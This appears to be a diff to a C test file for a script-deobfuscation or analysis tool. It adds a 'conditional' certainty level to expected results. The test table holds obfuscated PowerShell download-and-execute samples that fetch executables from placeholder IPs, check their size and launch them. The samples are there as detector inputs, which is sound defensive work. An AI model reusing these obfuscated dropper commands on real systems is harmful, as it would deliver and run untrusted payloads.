@@ -8,7 +8,7 @@
 #include "tests/table.h"
 #include "unmask/harness.h"
 
-enum certainty { KNOWN, PARTIAL, NONE };
+enum certainty { KNOWN, CONDITIONAL, PARTIAL, NONE };
 
 static const struct row {
     const char *name, *language, *code;
@@ -17,8 +17,8 @@ static const struct row {
     enum certainty certainty;
 } cases[] = {
     { "list of urls", "powershell", "$u='http://192.0.2.1/a@http://192.0.2.2/b'.Split('@');foreach($i in $u){try{(New-Object Net.WebClient).DownloadFile($i,'x.txt');break}catch{}}", EFFECT_DOWNLOAD, "url", "http://192.0.2.1/a", KNOWN },
-    { "size check is passed", "powershell", "$w=&('new'+'-obj'+'ect') net.webclient;foreach($i in ('http://192.0.2.1/a*http://192.0.2.2/b').\"s`pLIt\"([char]42)){try{$w.\"dOWN`loADfi`le\"($i,'x.exe');If((.('Ge'+'t-It'+'em') 'x.exe').\"l`eng`th\" -ge 31000){Start-Process 'x.exe';break}}catch{}}", EFFECT_DOWNLOAD, "url", "http://192.0.2.2/b", KNOWN },
-    { "the file is run", "powershell", "$w=New-Object Net.WebClient;$w.DownloadFile('http://192.0.2.1/a','x.exe');if((Get-Item 'x.exe').length -ge 31000){Start-Process 'x.exe'}", EFFECT_RUN, "command", "x.exe", KNOWN },
+    { "size check is passed", "powershell", "$w=&('new'+'-obj'+'ect') net.webclient;foreach($i in ('http://192.0.2.1/a*http://192.0.2.2/b').\"s`pLIt\"([char]42)){try{$w.\"dOWN`loADfi`le\"($i,'x.exe');If((.('Ge'+'t-It'+'em') 'x.exe').\"l`eng`th\" -ge 31000){Start-Process 'x.exe';break}}catch{}}", EFFECT_DOWNLOAD, "url", "http://192.0.2.2/b", CONDITIONAL },
+    { "the file is run", "powershell", "$w=New-Object Net.WebClient;$w.DownloadFile('http://192.0.2.1/a','x.exe');if((Get-Item 'x.exe').length -ge 31000){Start-Process 'x.exe'}", EFFECT_RUN, "command", "x.exe", CONDITIONAL },
     { "environment", "powershell", "$p=$env:temp+'\\'+'123'+'.exe';Start-Process $p", EFFECT_RUN, "command", "%temp%\\123.exe", KNOWN },
     { "format", "powershell", "Start-Process ('{1}{0}' -f 'lc','ca')", EFFECT_RUN, "command", "calc", KNOWN },
     { "call of a formatted name", "powershell", "&('{1}{0}' -f 'rocess','Start-P') calc", EFFECT_RUN, "command", "calc", KNOWN },
@@ -58,7 +58,7 @@ static void effects(void **state)
         const struct effect *e = NULL;
         bool found = false;
         for (size_t n = 0; !found && (e = tally_effect(r, row->kind, n)) != NULL; n++)
-            found = slice_is(tally_argument(e, row->argument), row->want) && e->known == (row->certainty == KNOWN);
+            found = slice_is(tally_argument(e, row->argument), row->want) && tally_certainty(e, row->certainty == KNOWN, row->certainty == CONDITIONAL);
         tally_check(r);
         if (found != (row->certainty != NONE))
             table_slice(&t, row->name, tally_argument(tally_effect(r, row->kind, 0), row->argument), row->certainty == NONE ? "(nothing)" : row->want);
